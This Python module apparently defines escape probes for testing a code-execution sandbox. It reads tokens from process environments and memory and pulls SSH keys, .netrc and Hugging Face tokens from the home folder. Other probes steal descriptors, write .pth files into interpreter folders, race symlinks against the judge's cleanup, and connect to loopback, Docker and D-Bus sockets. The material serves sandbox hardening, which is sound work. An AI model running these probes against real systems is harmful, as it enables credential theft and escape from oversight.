"""Attacks that read what is secret, write outside or reach a network."""

from support.cases import Attack, attack

SECRETS: list[Attack] = [
    attack(
        "environment",
        "secret",
        "tokens in the environment, its own and its parents'",
        """
        print(dict(os.environ))
        for who in ("self", str(os.getppid()), "1", "{pid}", "{judge_pid}"):
            show("/proc/" + who + "/environ")
        """,
    ),
    attack(
        "own_memory",
        "secret",
        "secrets that a fork has left in its own memory",
        r"""
        import re
        pattern = re.compile(b"HOSTSECRET" + rb"-[0-9a-f]{32}")
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                where, mode = line.split()[:2]
                start, end = (int(part, 16) for part in where.split("-"))
                if "rw" not in mode or end - start > 1 << 28:
                    continue
                try:
                    memory.seek(start)
                    found = pattern.findall(memory.read(end - start))
                except OSError:
                    continue
                for secret in found:
                    print("in memory", secret.decode(), flush=True)
        """,
    ),
    attack(
        "home_read",
        "secret",
        "keys and tokens in the home folder",
        """
        import pwd
        for name in (".netrc", ".ssh/id_ed25519", ".cache/huggingface/token"):
            show(os.path.join("{home}", name))
        home = quietly(lambda: pwd.getpwuid(os.getuid()).pw_dir) or os.path.expanduser("~")
        for name in (".netrc", ".bashrc", ".profile", ".bash_history", ".gitconfig"):
            attempt("read " + name, lambda: open(os.path.join(home, name), "rb").read(1))
        """,
    ),
    attack(
        "run_folder_read",
        "secret",
        "the tests and checkpoints of the run",
        """
        for folder, _, names in os.walk("{run}"):
            for name in names:
                show(os.path.join(folder, name))
        show("{run}/tests.json")
        show("{secret_path}")
        """,
    ),
    attack(
        "proc_roots",
        "secret",
        "files by the root, folder and descriptors of other processes",
        """
        path = "{secret_path}".lstrip("/")
        for who in ("self", "1", str(os.getppid()), "{pid}", "{judge_pid}"):
            show("/proc/" + who + "/root" + "/" + path)
            show("/proc/" + who + "/cwd/" + "../" * 20 + path)
            for number in quietly(os.listdir, "/proc/" + who + "/fd") or ():
                if int(number) > 2:
                    link = "/proc/" + who + "/fd/" + number
                    where = quietly(os.readlink, link) or ""
                    if "held" in where:
                        show(link)
                    show(link + "/" + path)
        """,
    ),
    attack(
        "inherited_descriptors",
        "secret",
        "descriptors that the judge had open: read, written, used as folders",
        """
        path = "{secret_path}".lstrip("/")
        for number in range(3, 4096):
            try:
                kind = os.fstat(number).st_mode >> 12
            except OSError:
                continue
            print("open", number, kind, quietly(os.readlink, "/proc/self/fd/" + str(number)))
            if kind == 0o10:
                print("read", quietly(lambda: os.pread(number, 1 << 16, 0)))
                quietly(lambda: os.pwrite(number, b"written by the program", 0))
            if kind == 0o04:
                for up in range(20):
                    there = quietly(lambda: os.open("../" * up + path, 0, dir_fd=number))
                    if there is not None:
                        print("read", os.read(there, 1 << 16))
                        break
            if kind in (0o01, 0o14):
                quietly(os.set_blocking, number, False)
                quietly(lambda: os.write(number, b"written by the program"))
        """,
    ),
    attack(
        "victim_memory",
        "secret",
        "the memory of a process of the same user",
        """
        address, length = int("{address}"), 64
        try:
            with open("/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(address)
                print("read", memory.read(length))
        except BaseException as error:
            print("blocked:", repr(error))

        def read_across(number):
            room = ctypes.create_string_buffer(length)
            here = (ctypes.c_void_p * 2)(ctypes.addressof(room), length)
            there = (ctypes.c_void_p * 2)(address, length)
            call("process_vm_readv", number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            print("read", room.raw)

        quietly(read_across, int("{pid}"))
        """,
    ),
    attack(
        "parent_memory",
        "secret",
        "process_vm_readv and /proc/<parent>/mem",
        """
        parent = str(os.getppid())

        def first_bytes():
            with open("/proc/" + parent + "/maps") as maps:
                areas = [line for line in maps if " r" in line or " rw" in line]
            start, end = (int(part, 16) for part in areas[0].split()[0].split("-"))
            room = ctypes.create_string_buffer(16)
            here = (ctypes.c_void_p * 2)(ctypes.addressof(room), 16)
            there = (ctypes.c_void_p * 2)(start, 16)
            call("process_vm_readv", int(parent), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)

        attempt("read the parent's memory", first_bytes)
        attempt("open the parent's memory", lambda: open("/proc/" + parent + "/mem", "r+b", 0))
        """,
    ),
    attack(
        "pidfd_getfd",
        "secret",
        "a descriptor taken out of the victim, the judge or the parent",
        """
        for number in (int("{pid}"), int("{judge_pid}"), os.getppid()):
            handle = quietly(call, "pidfd_open", number, 0)
            if handle is None:
                continue
            for other in range(3, 64):
                taken = quietly(call, "pidfd_getfd", handle, other, 0)
                if taken is not None:
                    escaped("took descriptor", other, "of process", number)
                    print("read", quietly(os.pread, taken, 1 << 16, 0))
        """,
    ),
    attack(
        "file_handles",
        "secret",
        "open_by_handle_at: any file of a file system by its number",
        """
        def by_handle():
            handle = ctypes.create_string_buffer(8 + 128)
            ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
            mount = ctypes.c_int()
            call("name_to_handle_at", -100, b"/", handle, ctypes.byref(mount), 0)
            return call("open_by_handle_at", os.open("/", 0), handle, 0)

        attempt("open_by_handle_at", by_handle)
        """,
    ),
    attack(
        "anonymous_program",
        "secret",
        "memfd_create and execve of a copy of the interpreter",
        """
        code = "print(open('{secret_path}').read()); print('ESCAPED: read by a memfd program')"
        handle = os.memfd_create("program", 0)
        with open(sys.executable, "rb") as file:
            while piece := file.read(1 << 20):
                os.write(handle, piece)
        os.execve("/proc/self/fd/" + str(handle), [sys.executable, "-S", "-c", code], {})
        """,
    ),
    attack(
        "programs_of_the_system",
        "secret",
        "shell, cat and other programs that are found",
        """
        import subprocess
        lines = ["cat '{secret_path}'", "cp '{secret_path}' copied && cat copied"]
        lines += ["echo x > '{outside}/from_a_shell'", "exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3"]
        for line in lines:
            for shell in (["sh", "-c"], ["bash", "-c"], ["busybox", "sh", "-c"]):
                try:
                    done = subprocess.run([*shell, line], capture_output=True, timeout=1)
                    print(done.stdout, done.stderr)
                except (OSError, subprocess.SubprocessError) as error:
                    print("blocked:", repr(error))
        """,
    ),
]

WRITES: list[Attack] = [
    attack(
        "write_outside",
        "write",
        "new, changed, removed and renamed files outside",
        """
        outside = "{outside}"
        attempt("write a file", lambda: open(outside + "/new", "w").write("x"))
        attempt("change a file", lambda: open(outside + "/kept", "a").write("x"))
        attempt("make a folder", os.mkdir, outside + "/folder")
        attempt("make a fifo", os.mkfifo, outside + "/fifo")
        attempt("rename a file", os.rename, outside + "/moved", outside + "/moved2")
        attempt("remove a file", os.remove, outside + "/removed")
        attempt("shorten a file", os.truncate, outside + "/kept", 1)
        attempt("change its mode", os.chmod, outside + "/kept", 0o777)
        attempt("change its time", os.utime, outside + "/kept", (1, 1))
        for folder in ("/etc", "/usr", "/var", "/"):
            quietly(lambda: open(os.path.join(folder, "escaped_{tag}"), "x"))
        """,
    ),
    attack(
        "interpreter_write",
        "write",
        "the modules and start-up files that the judge imports",
        """
        import json, site, sysconfig
        folders = {os.path.dirname(json.__file__), sysconfig.get_paths()["purelib"]}
        folders |= {sysconfig.get_paths()["stdlib"], os.path.dirname(sys.executable)}
        folders |= set(quietly(site.getsitepackages) or ())
        for folder in sorted(folders):
            path = os.path.join(folder, "escaped_{tag}.pth")
            try:
                with open(path, "w") as file:
                    file.write("#")
            except OSError as error:
                print("blocked:", repr(error))
            else:
                os.remove(path)
                escaped("wrote into", folder)
        for path in (json.__file__, sys.executable):
            attempt("open for writing " + path, lambda: os.close(os.open(path, os.O_RDWR)))
        """,
    ),
    attack(
        "links_outside",
        "write",
        "symbolic and hard links that lead out of the folder",
        """
        outside = "{outside}"
        quietly(os.symlink, outside, "a_link")
        attempt("write by a symbolic link", lambda: open("a_link/by_link", "w").write("x"))
        attempt("link a file here", os.link, outside + "/kept", "a_hard_link")
        attempt("link a file there", lambda: (
            open("mine", "w").write("x"), os.link("mine", outside + "/by_hard_link")))
        """,
    ),
    attack(
        "links_for_the_judge",
        "write",
        "links that a judge outside follows when it writes or cleans up",
        """
        import itertools
        outside = "{outside}"
        names = ["result", "result.json", "results.json", "output", "output.txt", "stdout"]
        names += ["out", "err", "stderr", "verdict", "verdict.json", "report.json", "exit_code"]
        folders = [".", os.path.dirname(os.path.abspath(sys.argv[0] or "x")), "/tmp"]
        for folder, name in itertools.product(folders, names):
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.remove(path)
                os.symlink(os.path.join(outside, "followed_" + name), path)
            except OSError as error:
                print("blocked:", repr(error))
        quietly(os.symlink, outside, "a_folder")
        quietly(os.mkdir, "b_folder")
        quietly(os.symlink, outside, "b_folder/deeper")
        # The folder itself becomes a link: who cleans up by name empties another.
        here = os.getcwd()
        try:
            os.rename(here, here + "_moved")
            os.symlink(outside, here)
        except OSError as error:
            print("blocked:", repr(error))
        """,
    ),
    attack(
        "swapping_links",
        "write",
        "a folder and a link that change places while the judge cleans up",
        """
        outside = "{outside}"
        os.makedirs("swapped/inner", exist_ok=True)
        for number in range(50):
            open("swapped/inner/" + str(number), "w").close()
        quietly(os.symlink, outside, "other")
        if quietly(os.fork) == 0:
            end = time.monotonic() + 1.5
            while time.monotonic() < end:
                try:
                    os.rename("swapped", "third")
                    os.rename("other", "swapped")
                    os.rename("third", "other")
                except OSError:
                    time.sleep(0.001)
            os._exit(0)
        """,
    ),
    attack(
        "undeletable",
        "write",
        "folders that are hard to remove: deep, without rights, with odd names",
        """
        here = os.getcwd()
        for _ in range(1200):
            try:
                os.mkdir("{tag}")
                os.chdir("{tag}")
            except OSError as error:
                print("blocked:", repr(error))
                break
        os.chdir(here)
        for name in (b"new\\nline", b"\\xff\\xfe", b"-rf", b" "):
            quietly(os.mkdir, name)
        quietly(os.makedirs, "shut/inner")
        quietly(os.chmod, "shut/inner", 0)
        quietly(os.chmod, "shut", 0)
        quietly(os.chmod, ".", 0o500)
        """,
    ),
]

NETWORKS: list[Attack] = [
    attack(
        "loopback",
        "network",
        "TCP and UDP to 127.0.0.1 and ::1",
        """
        import socket

        def over_tcp(address):
            with socket.create_connection(address, 1) as connection:
                connection.sendall(b"hello")
                print("heard", connection.recv(100))

        for name in ("127.0.0.1", "127.9.9.9", "0.0.0.0", "localhost", "::1", "::ffff:127.0.0.1"):
            attempt("connect to " + name, over_tcp, (name, int("{port}")))
        for family, name in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as sender:
                    print("sent", sender.sendto(b"hello", (name, int("{udp_port}"))))
            except OSError as error:
                print("blocked:", repr(error))
        """,
    ),
    attack(
        "local_network",
        "network",
        "the machine's own address and one that is not there",
        """
        import socket
        try:
            with socket.create_connection(("{lan}", int("{lan_port}")), 1) as connection:
                print("heard", connection.recv(100))
                escaped("connected to the machine's address")
        except OSError as error:
            print("blocked:", repr(error))
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET, kind) as sender:
                    sender.setblocking(False)
                    result = sender.connect_ex(("192.0.2.1", 9))
            except OSError as error:
                print("blocked:", repr(error))
                continue
            if result in (0, errno.EINPROGRESS, errno.EAGAIN):
                escaped("there is a way to 192.0.2.1:", kind, result)
        """,
    ),
    attack(
        "fast_open",
        "network",
        "TCP without connect(): fast open and sendmsg",
        """
        import socket
        fast_open = 0x20000000
        try:
            with socket.socket() as sender:
                sender.settimeout(1)
                print("sent", sender.sendto(b"hello", fast_open, ("127.0.0.1", int("{port}"))))
        except OSError as error:
            print("blocked:", repr(error))
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                print("sent", sender.sendmsg([b"hi"], [], 0, ("127.0.0.1", int("{udp_port}"))))
        except OSError as error:
            print("blocked:", repr(error))
        """,
    ),
    attack(
        "names",
        "network",
        "looking names up, and questions sent to a name server",
        """
        import socket
        signal.alarm(2 + int(float("{seconds}")))
        question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1"
        servers = [("127.0.0.1", int("{udp_port}"))]
        for address in servers:
            try:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                    sender.sendto(question, address)
            except OSError as error:
                print("blocked:", repr(error))
        attempt("look example.com up", socket.getaddrinfo, "example.com", 80)
        """,
    ),
    attack(
        "unix_sockets",
        "network",
        "a socket that has a path",
        """
        import socket

        def over(kind, path):
            with socket.socket(socket.AF_UNIX, kind) as sender:
                sender.settimeout(1)
                sender.connect(path)
                sender.send(b"hello")
                if kind == socket.SOCK_STREAM:
                    print("heard", sender.recv(100))

        attempt("connect to a path", over, socket.SOCK_STREAM, "{unix_path}")
        attempt("send to a path", over, socket.SOCK_DGRAM, "{unix_datagram}")
        """,
    ),
    attack(
        "abstract_socket",
        "network",
        "a socket that has a name and no path",
        """
        import socket

        def over():
            with socket.socket(socket.AF_UNIX) as sender:
                sender.settimeout(1)
                sender.connect("\\0{abstract}")
                sender.send(b"hello")
                print("heard", sender.recv(100))

        attempt("connect to an abstract name", over)
        """,
    ),
    attack(
        "system_sockets",
        "network",
        "the sockets of the machine's services",
        """
        import glob, socket
        paths = ["/run/dbus/system_bus_socket", "/run/docker.sock", "/run/systemd/private"]
        paths += ["/run/systemd/notify", "/run/nscd/socket", "/run/containerd/containerd.sock"]
        paths += glob.glob("/run/user/*/bus") + glob.glob("/tmp" + "/.X11-unix/*")
        for path in paths:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                attempt("connect to " + path, lambda: socket.socket(
                    socket.AF_UNIX, kind).connect(path))
        """,
    ),
    attack(
        "raw_sockets",
        "network",
        "raw and packet sockets",
        """
        import socket
        raw = socket.SOCK_RAW
        attempt("raw ICMP", socket.socket, socket.AF_INET, raw, socket.IPPROTO_ICMP)
        attempt("raw IP", socket.socket, socket.AF_INET, raw, socket.IPPROTO_RAW)
        attempt("packets", socket.socket, socket.AF_PACKET, raw, 0)
        attempt("packets without headers", socket.socket, socket.AF_PACKET, socket.SOCK_DGRAM, 0)
        """,
    ),
    attack(
        "socket_families",
        "network",
        "families that no namespace or rule of paths confines",
        """
        import socket
        families = {"vsock": 40, "alg": 38, "bluetooth": 31, "key": 15, "rds": 21, "tipc": 30}
        families |= {"can": 29, "xdp": 44, "x25": 9, "smc": 43, "qipcrtr": 42, "kcm": 41}
        for name, family in families.items():
            for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
                try:
                    socket.socket(family, kind).close()
                except OSError as error:
                    print("blocked:", name, repr(error))
                else:
                    escaped("a socket of the family", name)
                    break
        """,
    ),
    attack(
        "netlink",
        "network",
        "the kernel's own sockets: interfaces, audit, events",
        """
        import socket
        names = quietly(lambda: [name for _, name in socket.if_nameindex()]) or []
        if [name for name in names if name not in ("lo", "sit0", "tunl0", "ip6tnl0")]:
            escaped("sees the interfaces", names)
        for protocol, what in ((9, "audit"), (15, "events of devices"), (12, "the firewall")):
            def listen():
                with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as heard:
                    heard.bind((0, 1))
            if of_the_host("net"):
                attempt("listen to " + what, listen)
        """,
    ),
]
